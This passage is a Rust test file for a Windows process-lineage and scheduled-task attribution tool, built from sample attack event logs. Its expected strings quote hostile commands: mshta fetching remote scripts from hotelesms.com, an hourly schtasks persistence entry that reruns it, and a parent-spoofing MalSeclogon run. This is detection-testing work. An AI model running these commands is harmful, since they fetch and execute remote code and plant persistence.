//! Process lineage against real corpus files (expected trees worked out by hand from the records
//! with `evtx_dump`), and hand-built events for what the corpus lacks: pid reuse with 4689,
//! hostile cycles, TaskScheduler/Operational events (the corpus has none) and task attachment.

use std::sync::Arc;
use taskhunt_events::tables::{SECURITY, SYSMON, TASK_SCHEDULER};
use taskhunt_events::testing::evtx_samples;
use taskhunt_events::{Event, Fields, SourceFile, Timestamp, Value, read_file};
use taskhunt_tasks::lineage::{Launcher, ProcessTree, attach_tasks};
use taskhunt_tasks::{Action, Origin, OriginKind, TaskDefinition};

fn corpus(test: &str, name: &str) -> Option<Vec<Event>> {
    let path = evtx_samples(test)?.join(name);
    let batch = read_file(&path);
    assert!(batch.issues.is_empty(), "{name}: {:?}", batch.issues);
    Some(batch.events)
}

fn t(s: &str) -> Timestamp {
    Timestamp::parse(s).unwrap_or_else(|| panic!("bad time {s}"))
}

/// The only node with `pid` (the corpus files below have no pid reuse unless a test says so).
fn by_pid(tree: &ProcessTree, pid: u64) -> usize {
    let found: Vec<usize> = (0..tree.nodes.len()).filter(|&i| tree.nodes[i].pid == pid).collect();
    assert_eq!(found.len(), 1, "pid {pid}: {found:?}");
    found[0]
}

fn pids(tree: &ProcessTree, nodes: &[usize]) -> Vec<u64> {
    nodes.iter().map(|&i| tree.nodes[i].pid).collect()
}

fn hand(channel: &str, id: u32, record: u64, time: &str, host: &str, fields: &[(&str, &str)]) -> Event {
    let mut f = Fields::new();
    for (k, v) in fields {
        f.insert_str(k, Value::str(*v));
    }
    Event {
        timestamp: t(time),
        computer: host.into(),
        channel: channel.into(),
        provider: "".into(),
        event_id: id,
        record_id: record,
        source: Arc::new(SourceFile { path: "hand-built".into(), format: "test" }),
        system: Fields::new(),
        fields: f,
    }
}

fn with_system(mut e: Event, fields: &[(&str, &str)]) -> Event {
    for (k, v) in fields {
        e.system.insert_str(k, Value::str(*v));
    }
    e
}

fn exec_task(name: &str, command: &str, arguments: Option<&str>) -> TaskDefinition {
    TaskDefinition {
        name: name.into(),
        actions: vec![Action::Exec { command: command.into(), arguments: arguments.map(Into::into), working_directory: None }],
        ..TaskDefinition::default()
    }
}

#[test]
fn mshta_chain_that_creates_a_task() {
    let Some(events) = corpus("mshta_chain", "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    // Sysmon 1 records 4125 cmd 1532 → 4126 rundll32 2920 → 4127 mshta 2432 → 4129 schtasks 3772.
    assert_eq!(pids(&tree, &(0..tree.nodes.len()).collect::<Vec<_>>()), [1532, 2920, 2432, 3772]);
    let schtasks = by_pid(&tree, 3772);
    assert_eq!(pids(&tree, &tree.ancestors(schtasks)), [2432, 2920, 1532]);
    let n = &tree.nodes[schtasks];
    assert_eq!(n.guid.as_deref(), Some("{365abb72-1a2b-5ce4-0000-00102f502201}"));
    assert_eq!(n.start, t("2019-05-21T15:32:59.729Z"), "UtcTime, not the later event time");
    assert_eq!(n.user.as_deref(), Some("IEWIN7\\IEUser"));
    assert_eq!(n.integrity.as_deref(), Some("High"));
    assert!(n.evidence.ends_with("exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx:4129"), "{}", n.evidence);

    // The first cmd's parent (pid 3548, an interactive cmd) started before the capture.
    let root = by_pid(&tree, 1532);
    assert_eq!(tree.nodes[root].parent, None);
    assert_eq!(tree.nodes[root].parent_pid, Some(3548));
    assert_eq!(tree.nodes[root].parent_image.as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
    assert_eq!(pids(&tree, &tree.descendants(root)), [2920, 2432, 3772]);
    assert!((0..tree.nodes.len()).all(|i| tree.launched_by_scheduler(i).is_none()));

    let expected = concat!(
        "C:\\Windows\\System32\\mshta.exe (pid 2432) 2019-05-21T15:32:57.8370000Z: ",
        "\"C:\\Windows\\System32\\mshta.exe\" https://hotelesms.com/talsk.txt\n",
        "  C:\\Windows\\System32\\schtasks.exe (pid 3772) 2019-05-21T15:32:59.7290000Z: ",
        "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN MSOFFICE_ ",
        "/TR \"mshta.exe https://hotelesms.com/Injection.txt\" /F \n",
    );
    assert_eq!(tree.render(by_pid(&tree, 2432)), expected);
}

#[test]
fn rundll32_chain_with_unknown_parents() {
    let Some(events) = corpus("rundll32_chain", "AutomatedTestingTools/Malware/rundll32_cmd_schtask.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(tree.nodes.len(), 8);
    // 424079 schtasks 8572 ← 424076 cmd 5572 ← 423994 rundll32 3396 ← test.tmp 7624 (not logged).
    let schtasks = by_pid(&tree, 8572);
    assert_eq!(pids(&tree, &tree.ancestors(schtasks)), [5572, 3396]);
    assert_eq!(tree.nodes[by_pid(&tree, 5572)].image, "C:\\Windows\\SysWOW64\\cmd.exe");
    let dropper = by_pid(&tree, 3396);
    assert_eq!(tree.nodes[dropper].parent_image.as_deref(), Some("C:\\Users\\Public\\test.tmp"));
    assert_eq!(tree.nodes[dropper].parent_pid, Some(7624));
    // WmiPrvSE and the second rundll32 chain have Sysmon's all-zero parent GUID and `?` image.
    let wmi = by_pid(&tree, 8796);
    assert_eq!((tree.nodes[wmi].parent_guid.as_deref(), tree.nodes[wmi].parent_image.as_deref()), (None, None));
    let second = by_pid(&tree, 7552);
    assert_eq!(tree.nodes[second].parent, None);
    assert_eq!(tree.nodes[second].parent_pid, Some(1216));
    assert_eq!(pids(&tree, &tree.descendants(second)), [9116, 7504, 8920]);
    assert_eq!(pids(&tree, &tree.ancestors(by_pid(&tree, 8920))), [7504, 9116, 7552]);
}

#[test]
fn vss_persistence_command_line_alone_is_not_enough() {
    let Some(events) = corpus("vss_persistence", "Execution/sysmon_exec_from_vss_persistence.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(tree.nodes.len(), 16);
    // Every cmd was started by notepad 1944 (injected, not logged); svhost64 by WmiPrvSE 3680.
    let roots: Vec<usize> = (0..tree.nodes.len()).filter(|&i| tree.nodes[i].parent.is_none()).collect();
    assert_eq!(pids(&tree, &roots), [3256, 1536, 3876, 3448, 2412, 2356, 1260, 4012]);
    let schtasks = by_pid(&tree, 4044);
    assert_eq!(pids(&tree, &tree.ancestors(schtasks)), [4012]);
    assert_eq!(tree.nodes[by_pid(&tree, 4012)].parent_image.as_deref(), Some("C:\\Windows\\System32\\notepad.exe"));

    // The task schtasks created (record 6195): /tn "eyNQLDvUSuvVPg" /tr "\\?\GLOBALROOT\...\svhost64.exe".
    let payload = "\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy7\\\\Windows\\Temp\\svhost64.exe";
    let mut task = exec_task("\\eyNQLDvUSuvVPg", payload, None);
    task.origin = Origin { kind: OriginKind::CommandLine, time: Some(t("2019-05-27T15:12:59.578Z")), ..Origin::default() };
    // svhost64 (record 6192) runs exactly the task's command line, but WMI started it, five
    // seconds before the task existed: no attachment.
    let svhost = by_pid(&tree, 1260);
    assert_eq!(tree.nodes[svhost].command_line.as_deref(), Some(payload));
    assert_eq!(tree.launched_by_scheduler(svhost), None);
    assert_eq!(attach_tasks(&tree, &[("IEWIN7".into(), task)], &[]), []);
}

#[test]
fn boot_tree_schedule_service_child_and_pid_reuse() {
    let Some(events) = corpus("boot_tree", "Privilege Escalation/privesc_unquoted_svc_sysmon_1_11.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(tree.nodes.len(), 79);
    // 27528 dxgiadaptercache 1876 ← 27469 svchost 1104 (-s Schedule) ← 27390 services 584
    // ← 27383 wininit 468 ← 27374 smss 388 ← 27372 smss 300 ← System 4 (no event).
    let dxgi = tree.find("MSEDGEWIN10", 1876, t("2020-04-25T22:19:18Z")).unwrap();
    assert_eq!(pids(&tree, &tree.ancestors(dxgi)), [1104, 584, 468, 388, 300]);
    assert_eq!(tree.launched_by_scheduler(dxgi), Some(Launcher::ScheduleService));
    let schedule = tree.nodes[dxgi].parent.unwrap();
    assert_eq!(tree.launched_by_scheduler(schedule), None, "services.exe started the service itself");
    let expected = concat!(
        "C:\\Windows\\System32\\svchost.exe (pid 1104) 2020-04-25T22:19:16.9290000Z: ",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule\n",
        "  C:\\Windows\\System32\\dxgiadaptercache.exe (pid 1876) 2020-04-25T22:19:17.5130000Z: ",
        "C:\\Windows\\system32\\dxgiadaptercache.exe\n",
    );
    assert_eq!(tree.render(schedule), expected);

    // Pid 992 is LogonUI (27438, child of winlogon 568) and, two minutes later, WinRM's svchost
    // (28169, child of services 584).
    let logonui = tree.find("msedgewin10", 992, t("2020-04-25T22:20:00Z")).unwrap();
    assert_eq!(tree.nodes[logonui].image, "C:\\Windows\\System32\\LogonUI.exe");
    assert_eq!(pids(&tree, &tree.ancestors(logonui))[0], 568);
    let winrm = tree.find("MSEDGEWIN10", 992, t("2020-04-25T22:21:20Z")).unwrap();
    assert_eq!(tree.nodes[winrm].command_line.as_deref(), Some("C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s WinRM"));
    assert_eq!(pids(&tree, &tree.ancestors(winrm)), [584, 468, 388, 300]);
    assert_eq!(tree.find("MSEDGEWIN10", 992, t("2020-04-25T22:19:16.700Z")), None);
    assert_eq!(tree.find("OTHERHOST", 992, t("2020-04-25T22:21:20Z")), None);

    // Events in any order give the same tree.
    let reversed: Vec<&Event> = events.iter().rev().collect();
    assert_eq!(ProcessTree::build(reversed).nodes, tree.nodes);
}

#[test]
fn com_task_runs_under_taskhostw() {
    let Some(events) = corpus("taskhostw", "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(pids(&tree, &(0..tree.nodes.len()).collect::<Vec<_>>()), [11644, 17336, 16980]);
    // 2362768: `taskhostw.exe $(Arg0)` whose parent (1752, not logged) is the Schedule svchost.
    let host = by_pid(&tree, 17336);
    assert_eq!(tree.nodes[host].parent, None);
    assert_eq!(tree.launched_by_scheduler(host), Some(Launcher::ScheduleService));
    // 2362770: the hijacked CDSSync task's cmd, a child of that taskhostw.
    let cmd = by_pid(&tree, 16980);
    assert_eq!(tree.ancestors(cmd), [host]);
    assert_eq!(tree.launched_by_scheduler(cmd), Some(Launcher::TaskHostW));
    assert_eq!(tree.launched_by_scheduler(by_pid(&tree, 11644)), None);
}

#[test]
fn windows7_tasks_run_under_taskeng() {
    let Some(events) = corpus("taskeng", "Privilege Escalation/sysmon_1_11_exec_as_system_via_schedtask.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    // python 2740 ran schtasks /create (3876), /run (3752) and /delete (3792); the task's cmd
    // 1860 is a child of taskeng.exe 3432, which Sysmon did not log.
    let python = by_pid(&tree, 2740);
    assert_eq!(pids(&tree, &tree.nodes[python].children), [3876, 3752, 3792]);
    let cmd = by_pid(&tree, 1860);
    assert_eq!(tree.nodes[cmd].parent, None);
    assert_eq!(tree.nodes[cmd].user.as_deref(), Some("NT AUTHORITY\\SYSTEM"));
    assert_eq!(tree.launched_by_scheduler(cmd), Some(Launcher::TaskEng));
    assert_eq!(tree.launched_by_scheduler(by_pid(&tree, 3752)), None);

    let Some(events) = corpus("taskeng", "Persistence/persistence_SilentProcessExit_ImageHijack_sysmon_13_1.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    // 8041 (SYSTEM taskeng) and 8043 (IEUser's taskeng) start the Flash updater tasks.
    for pid in [1224, 3744] {
        assert_eq!(tree.launched_by_scheduler(by_pid(&tree, pid)), Some(Launcher::TaskEng), "pid {pid}");
    }
}

#[test]
fn security_4688_tree_by_hex_pids() {
    let Some(events) = corpus("security_4688", "Command and Control/DE_RDP_Tunnel_5156.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(tree.nodes.len(), 17);
    // RDP session 1: smss 0x38c (227748) → csrss 0x9d4 (227749, same tick) and winlogon 0x4b8
    // (227750) → LogonUI 0xc70 (227751). Session 2: smss 0x62c → csrss 0xadc, winlogon 0x768 →
    // LogonUI 0xce0. Both smss come from the session manager 0x124, which is not logged.
    let smss = tree.find("PC01.example.corp", 0x38c, t("2019-02-13T18:05:00Z")).unwrap();
    assert_eq!(pids(&tree, &tree.descendants(smss)), [0x9d4, 0x4b8, 0xc70]);
    assert_eq!(pids(&tree, &tree.ancestors(by_pid(&tree, 0xc70))), [0x4b8, 0x38c]);
    assert_eq!(pids(&tree, &tree.descendants(by_pid(&tree, 0x62c))), [0xadc, 0x768, 0xce0]);
    let n = &tree.nodes[smss];
    assert_eq!((n.parent, n.parent_pid), (None, Some(0x124)));
    assert_eq!(n.image, "C:\\Windows\\System32\\smss.exe");
    assert_eq!(n.user.as_deref(), Some("EXAMPLE\\PC01$"));
    assert_eq!((n.command_line.as_deref(), n.integrity.as_deref()), (None, None), "empty CommandLine, version 1");
    assert_eq!(n.start, t("2019-02-13T18:04:57.4624008Z"));
    // The short host name finds the same process.
    assert_eq!(tree.find("pc01", 0x38c, t("2019-02-13T18:05:00Z")), Some(smss));
}

#[test]
fn sysmon_and_security_events_of_one_creation_merge() {
    let Some(events) = corpus("merge", "Credential Access/tutto_malseclogon.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    // Three processes are in both logs (8612 = 0x21a4, 7108 = 0x1bc4, 6072 = 0x17b8); conhost
    // 0x11e4, lsass 0x1494 and svchost 0x24e0 only in Security.
    assert_eq!(pids(&tree, &(0..tree.nodes.len()).collect::<Vec<_>>()), [8612, 7108, 6072, 0x11e4, 0x1494, 0x24e0]);
    let spoofed = by_pid(&tree, 6072);
    let n = &tree.nodes[spoofed];
    assert!(n.evidence.ends_with("tutto_malseclogon.evtx:619518"), "{}", n.evidence);
    assert_eq!(n.other_evidence.len(), 1);
    assert!(n.other_evidence[0].ends_with("tutto_malseclogon.evtx:329919"));
    assert_eq!(n.image, "\\\\VBoxSvr\\Users\\bouss\\Downloads\\MalSeclogon-master\\x64\\Debug\\MalSeclogon.exe");
    assert_eq!(n.command_line.as_deref(), Some("MalSeclogon.exe  -p 636 -d 2 -l 1"));
    // Sysmon wrote `-` for the parent; 4688 names it: lsass (636 = 0x27c), the spoofed parent.
    assert_eq!((n.parent_pid, n.parent_image.as_deref()), (Some(636), Some("C:\\Windows\\System32\\lsass.exe")));
    assert_eq!(n.guid.as_deref(), Some("{747f3d96-9acd-61af-d501-000000000102}"));
    // conhost (329920, parent 0x17b8) hangs under the merged node.
    let conhost = by_pid(&tree, 0x11e4);
    assert_eq!(tree.ancestors(conhost), [spoofed]);
    assert_eq!(tree.nodes[conhost].user.as_deref(), Some("MSEDGEWIN10\\IEUser"));
    assert_eq!(tree.nodes[conhost].integrity.as_deref(), Some("High"));
    // 4688 version 2 Target* names the account, even next to the null SID.
    assert_eq!(tree.nodes[by_pid(&tree, 0x1494)].user.as_deref(), Some("WORKGROUP\\MSEDGEWIN10$"));
    assert_eq!(tree.nodes[by_pid(&tree, 0x1494)].integrity.as_deref(), Some("System"));
    assert_eq!(tree.nodes[by_pid(&tree, 0x24e0)].user.as_deref(), Some("NT AUTHORITY\\LOCAL SERVICE"));
}

#[test]
fn atexec_on_4688_without_command_lines() {
    let Some(events) = corpus("atexec", "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx") else {
        return;
    };
    let tree = ProcessTree::build(&events);
    assert_eq!(pids(&tree, &(0..tree.nodes.len()).collect::<Vec<_>>()), [0xbcc, 0xebc, 0x970, 0x3b4]);
    // 566837: cmd 0xbcc from 0x33c (the Schedule svchost, but version 1 names no parent image
    // and nothing here tells its pid); conhost and tasklist are its children.
    let cmd = by_pid(&tree, 0xbcc);
    assert_eq!(pids(&tree, &tree.nodes[cmd].children), [0xebc, 0x970]);
    assert_eq!(tree.launched_by_scheduler(cmd), None);
    // The 4698 task (cmd.exe /C tasklist > ...) cannot be matched: CommandLine was not audited.
    let created = events.iter().find(|e| e.event_id == 4698).unwrap();
    let mut task = taskhunt_tasks::xml::parse_task(&created.text("TaskContent").unwrap()).unwrap();
    task.name = created.text("TaskName").unwrap().into_owned();
    assert_eq!(task.actions[0].command_line().as_deref(), Some("cmd.exe /C tasklist > %windir%\\Temp\\CYAlyNSS.tmp 2>&1"));
    assert_eq!(attach_tasks(&tree, &[(created.computer.to_string(), task)], &[]), []);
}

#[test]
fn pid_reuse_on_4688_and_exits() {
    let h = "WS1.corp.example";
    let created = |rec, time, pid: &str, image: &str, ppid: &str| {
        hand(SECURITY, 4688, rec, time, h, &[("NewProcessId", pid), ("NewProcessName", image), ("ProcessId", ppid)])
    };
    let events = [
        created(10, "2024-01-01T10:00:00Z", "0x100", "C:\\Windows\\System32\\cmd.exe", "0x4"),
        created(11, "2024-01-01T10:00:30Z", "0x300", "C:\\a.exe", "0x100"),
        hand(SECURITY, 4689, 12, "2024-01-01T10:01:00Z", h, &[("ProcessId", "0x100"), ("ProcessName", "C:\\Windows\\System32\\cmd.exe")]),
        created(13, "2024-01-01T10:01:30Z", "0x400", "C:\\b.exe", "0x100"),
        created(14, "2024-01-01T10:02:00Z", "0x100", "C:\\Windows\\notepad.exe", "0x4"),
        created(15, "2024-01-01T10:03:00Z", "0x200", "C:\\c.exe", "0x100"),
        // The same pids on another host do not mix in.
        hand(
            SECURITY,
            4688,
            16,
            "2024-01-01T10:02:30Z",
            "WS2",
            &[("NewProcessId", "0x100"), ("NewProcessName", "C:\\x.exe"), ("ProcessId", "0x4")],
        ),
    ];
    // Shuffled, and one event twice (the same record read from two exports).
    let order = [5, 2, 0, 6, 3, 1, 4, 5];
    let tree = ProcessTree::build(order.iter().map(|&k| &events[k]));
    assert_eq!(tree.nodes.len(), 6);
    let img = |i: usize| tree.nodes[i].image.as_str();
    let cmd = tree.find(h, 0x100, t("2024-01-01T10:00:10Z")).unwrap();
    assert_eq!(img(cmd), "C:\\Windows\\System32\\cmd.exe");
    assert_eq!(tree.nodes[cmd].end, Some(t("2024-01-01T10:01:00Z")));
    assert_eq!(tree.find(h, 0x100, t("2024-01-01T10:01:40Z")), None, "cmd exited, notepad not yet started");
    let notepad = tree.find(h, 0x100, t("2024-01-01T10:05:00Z")).unwrap();
    assert_eq!(img(notepad), "C:\\Windows\\notepad.exe");
    // a.exe started while cmd lived; c.exe after notepad took the pid; b.exe after cmd exited
    // and before notepad: its parent was some process nobody logged.
    assert_eq!(tree.nodes[tree.find(h, 0x300, t("2024-01-01T10:05:00Z")).unwrap()].parent, Some(cmd));
    assert_eq!(tree.nodes[tree.find(h, 0x200, t("2024-01-01T10:05:00Z")).unwrap()].parent, Some(notepad));
    assert_eq!(tree.nodes[tree.find(h, 0x400, t("2024-01-01T10:05:00Z")).unwrap()].parent, None);
    let other = tree.find("WS2", 0x100, t("2024-01-01T10:05:00Z")).unwrap();
    assert!(tree.nodes[other].children.is_empty());
    let c = tree.find(h, 0x200, t("2024-01-01T10:05:00Z")).unwrap();
    assert!(tree.nodes[c].other_evidence.is_empty(), "a copy of an event is not a second source");
}

#[test]
fn hostile_cycles_and_self_parents_end() {
    let h = "H";
    let s = |rec, pid: &str, guid: &str, pguid: &str, time: &str, cmd: &str| {
        hand(
            SYSMON,
            1,
            rec,
            time,
            h,
            &[
                ("ProcessId", pid),
                ("ProcessGuid", guid),
                ("ParentProcessGuid", pguid),
                ("ParentProcessId", "1"),
                ("Image", "C:\\evil.exe"),
                ("CommandLine", cmd),
            ],
        )
    };
    let sec = |rec, pid: &str, ppid: &str| {
        hand(SECURITY, 4688, rec, "2024-01-01T00:00:05Z", h, &[("NewProcessId", pid), ("NewProcessName", "C:\\x.exe"), ("ProcessId", ppid)])
    };
    let events = vec![
        s(1, "10", "{A}", "{B}", "2024-01-01T00:00:01Z", "a"),
        s(2, "11", "{B}", "{A}", "2024-01-01T00:00:02Z", "b"),
        s(3, "12", "{C}", "{C}", "2024-01-01T00:00:03Z", "c\x1b[2J\u{202e}"),
        s(4, "13", "{D}", "{A}", "2024-01-01T00:00:04Z", "d"),
        sec(5, "0x20", "0x20"),
        sec(6, "0x21", "0x22"),
        sec(7, "0x22", "0x21"),
        sec(8, "0xffffffffffffffff", "0xffffffffffffffff"),
    ];
    let tree = ProcessTree::build(&events);
    assert_eq!(tree.nodes.len(), 8);
    let node = |pid| by_pid(&tree, pid);
    // A ↔ B: one link of the two survives.
    let (a, b) = (node(10), node(11));
    assert_eq!([tree.nodes[a].parent, tree.nodes[b].parent].iter().filter(|p| p.is_some()).count(), 1);
    assert_eq!(tree.nodes[node(12)].parent, None);
    assert_eq!(tree.nodes[node(0x20)].parent, None);
    assert_eq!(tree.nodes[node(u64::MAX)].parent, None);
    let (x, y) = (node(0x21), node(0x22));
    assert_eq!([tree.nodes[x].parent, tree.nodes[y].parent].iter().filter(|p| p.is_some()).count(), 1);
    for i in 0..tree.nodes.len() {
        assert!(tree.ancestors(i).len() < tree.nodes.len());
        assert!(tree.descendants(i).len() < tree.nodes.len());
        assert!(!tree.ancestors(i).contains(&i) && !tree.descendants(i).contains(&i));
        assert_eq!(tree.render(i).lines().count(), tree.descendants(i).len() + 1);
    }
    let d = node(13);
    assert_eq!(tree.nodes[d].parent, Some(a));
    // Control characters are shown, not obeyed.
    let drawn = tree.render(node(12));
    assert!(drawn.contains("c\\u{001b}[2J\\u{202e}"), "{drawn}");
    assert!(!drawn.contains('\x1b'));
    assert_eq!(tree.render(usize::MAX), "");
    assert_eq!((tree.ancestors(usize::MAX), tree.descendants(usize::MAX)), (vec![], vec![]));
    assert_eq!(tree.launched_by_scheduler(usize::MAX), None);
}

#[test]
fn deep_chains_render_bounded() {
    let events: Vec<Event> = (1..=200u64)
        .map(|pid| {
            let time = format!("2024-01-01T00:{:02}:{:02}Z", pid / 60, pid % 60);
            let (pid_s, ppid_s) = (format!("{pid:#x}"), format!("{:#x}", pid - 1));
            hand(SECURITY, 4688, pid, &time, "H", &[("NewProcessId", &pid_s), ("NewProcessName", "C:\\x.exe"), ("ProcessId", &ppid_s)])
        })
        .collect();
    let tree = ProcessTree::build(&events);
    let root = by_pid(&tree, 1);
    assert_eq!(tree.descendants(root).len(), 199);
    assert_eq!(tree.ancestors(by_pid(&tree, 200)).len(), 199);
    let drawn = tree.render(root);
    // Levels 0..=64 are drawn, then one line counts the 135 below.
    assert_eq!(drawn.lines().count(), 66);
    assert!(drawn.ends_with("... 135 more processes below\n"), "{}", drawn.lines().last().unwrap());
}

#[test]
fn schedule_service_known_by_pid_on_4688() {
    let h = "WS1";
    let svchost = "C:\\Windows\\System32\\svchost.exe";
    let events = vec![
        // The TaskScheduler/Operational log is written by the Schedule service: pid 1100.
        with_system(hand(TASK_SCHEDULER, 100, 1, "2024-01-01T09:00:00Z", h, &[("TaskName", "\\T")]), &[("Execution_ProcessID", "1100")]),
        hand(
            SECURITY,
            4688,
            2,
            "2024-01-01T09:00:01Z",
            h,
            &[("NewProcessId", "0x500"), ("NewProcessName", "C:\\t.exe"), ("ProcessId", "0x44c"), ("ParentProcessName", svchost)],
        ),
        // Another svchost (pid 0x450) is not the Schedule service.
        hand(
            SECURITY,
            4688,
            3,
            "2024-01-01T09:00:02Z",
            h,
            &[("NewProcessId", "0x504"), ("NewProcessName", "C:\\u.exe"), ("ProcessId", "0x450"), ("ParentProcessName", svchost)],
        ),
        // After a reboot pid 0x44c is notepad; its child is no task's.
        hand(
            SECURITY,
            4688,
            4,
            "2024-01-02T09:00:00Z",
            h,
            &[("NewProcessId", "0x44c"), ("NewProcessName", "C:\\Windows\\notepad.exe"), ("ProcessId", "0x4")],
        ),
        hand(
            SECURITY,
            4688,
            5,
            "2024-01-02T09:00:01Z",
            h,
            &[("NewProcessId", "0x508"), ("NewProcessName", "C:\\v.exe"), ("ProcessId", "0x44c")],
        ),
        // A Schedule look-alike outside System32.
        hand(
            SYSMON,
            1,
            6,
            "2024-01-02T09:00:02Z",
            h,
            &[
                ("ProcessId", "1300"),
                ("Image", "C:\\w.exe"),
                ("ParentProcessId", "1200"),
                ("ParentImage", "C:\\Users\\Public\\svchost.exe"),
                ("ParentCommandLine", "C:\\Users\\Public\\svchost.exe -k netsvcs -p -s Schedule"),
            ],
        ),
    ];
    let tree = ProcessTree::build(&events);
    let at = t("2024-01-03T00:00:00Z");
    assert_eq!(tree.launched_by_scheduler(tree.find(h, 0x500, at).unwrap()), Some(Launcher::ScheduleService));
    assert_eq!(tree.launched_by_scheduler(tree.find(h, 0x504, at).unwrap()), None);
    assert_eq!(tree.launched_by_scheduler(tree.find(h, 0x508, at).unwrap()), None);
    assert_eq!(tree.launched_by_scheduler(tree.find(h, 1300, at).unwrap()), None);
}

#[test]
fn sysmon_terminations_end_processes() {
    let h = "WS1";
    let events = [
        hand(
            SYSMON,
            1,
            1,
            "2024-01-01T10:00:00Z",
            h,
            &[
                ("ProcessId", "700"),
                ("ProcessGuid", "{AAAA0000-0000-0000-0000-000000000001}"),
                ("Image", "C:\\a.exe"),
                ("UtcTime", "2024-01-01 10:00:00.000"),
            ],
        ),
        hand(
            SYSMON,
            5,
            2,
            "2024-01-01T10:05:00Z",
            h,
            &[("ProcessId", "700"), ("ProcessGuid", "{aaaa0000-0000-0000-0000-000000000001}"), ("UtcTime", "2024-01-01 10:04:59.500")],
        ),
    ];
    let tree = ProcessTree::build(events.iter().rev());
    let a = tree.find(h, 700, t("2024-01-01T10:01:00Z")).unwrap();
    assert_eq!(tree.nodes[a].end, Some(t("2024-01-01T10:04:59.5Z")));
    assert_eq!(tree.find(h, 700, t("2024-01-01T10:06:00Z")), None);
}

#[test]
fn attach_by_task_scheduler_events() {
    let h = "WS1.corp.example";
    let updater = "C:\\ProgramData\\upd.exe";
    let processes = vec![
        hand(
            SYSMON,
            1,
            1,
            "2024-01-01T10:00:00.100Z",
            h,
            &[
                ("ProcessId", "4242"),
                ("Image", updater),
                ("CommandLine", "\"C:\\ProgramData\\upd.exe\" -q --from-the-task"),
                ("ParentProcessId", "1100"),
                ("ParentImage", "C:\\Windows\\System32\\svchost.exe"),
                ("ParentCommandLine", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
            ],
        ),
        hand(SYSMON, 1, 2, "2024-01-01T10:00:00.020Z", h, &[("ProcessId", "5000"), ("Image", "C:\\b.exe"), ("ParentProcessId", "1100")]),
        hand(
            SYSMON,
            1,
            3,
            "2024-01-01T09:00:00Z",
            h,
            &[
                ("ProcessId", "1100"),
                ("Image", "C:\\Windows\\System32\\svchost.exe"),
                ("CommandLine", "svchost.exe -k netsvcs -p -s Schedule"),
            ],
        ),
    ];
    let run = "{11111111-2222-3333-4444-555555555555}";
    let sched = |id, rec, fields: &[(&str, &str)]| {
        with_system(
            hand(TASK_SCHEDULER, id, rec, "2024-01-01T10:00:00.050Z", "WS1", fields),
            &[("Correlation_ActivityID", run), ("Execution_ProcessID", "1100")],
        )
    };
    let scheduler = [
        sched(100, 10, &[("TaskName", "\\Updater"), ("InstanceId", run)]),
        // 129 without a TaskName: the run's ActivityID names the task.
        sched(129, 11, &[("Path", updater), ("ProcessID", "4242")]),
        sched(200, 12, &[("TaskName", "\\Updater"), ("TaskInstanceId", run), ("EnginePID", "4242"), ("ActionName", updater)]),
        // Path names another image than the process with that pid: no tie.
        sched(129, 13, &[("TaskName", "\\Other"), ("Path", "C:\\a.exe"), ("ProcessID", "5000")]),
        // The Schedule service itself is no task's process.
        sched(200, 14, &[("TaskName", "\\Other"), ("EnginePID", "1100")]),
    ];
    let tree = ProcessTree::build(&processes);
    let tasks = vec![
        ("ws1".to_string(), exec_task("\\Other", "C:\\a.exe", None)),
        ("WS2".to_string(), exec_task("\\Updater", updater, Some("-q"))),
        ("WS1.corp.example".to_string(), exec_task("\\Updater", updater, Some("-q"))),
    ];
    let refs: Vec<&Event> = scheduler.iter().collect();
    let node = tree.find(h, 4242, t("2024-01-01T10:00:01Z")).unwrap();
    assert_eq!(attach_tasks(&tree, &tasks, &refs), [(node, 2, "TaskScheduler 129 names pid 4242 for \\Updater".to_string())]);
}

#[test]
fn attach_by_command_line() {
    let h = "SRV";
    let backup = |rec, pid: &str, time: &str, cmd: &str, parent_cmd: &str| {
        hand(
            SYSMON,
            1,
            rec,
            time,
            h,
            &[
                ("ProcessId", pid),
                ("Image", "C:\\Program Files\\Backup\\bk.exe"),
                ("CommandLine", cmd),
                ("ParentProcessId", "1100"),
                ("ParentImage", "C:\\Windows\\System32\\svchost.exe"),
                ("ParentCommandLine", parent_cmd),
            ],
        )
    };
    let schedule = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule";
    let events = vec![
        backup(1, "300", "2024-01-01T02:00:00Z", "C:\\PROGRAM FILES\\Backup\\bk.exe /run nightly", schedule),
        // The same command typed by hand under explorer is no task's.
        hand(
            SYSMON,
            1,
            2,
            "2024-01-01T03:00:00Z",
            h,
            &[
                ("ProcessId", "301"),
                ("CommandLine", "\"C:\\Program Files\\Backup\\bk.exe\" /run nightly"),
                ("Image", "C:\\Program Files\\Backup\\bk.exe"),
                ("ParentImage", "C:\\Windows\\explorer.exe"),
            ],
        ),
        // Other arguments do not match.
        backup(3, "302", "2024-01-01T04:00:00Z", "C:\\Program Files\\Backup\\bk.exe /run weekly", schedule),
        // Half a year later, when a second task with the same action exists.
        backup(4, "303", "2024-06-01T02:00:00Z", "C:\\Program Files\\Backup\\bk.exe /run nightly", schedule),
    ];
    let tree = ProcessTree::build(&events);
    let mut nightly = exec_task("\\Backup", "\"C:\\Program Files\\Backup\\bk.exe\"", Some("/run   nightly"));
    let mut copy = nightly.clone();
    nightly.origin =
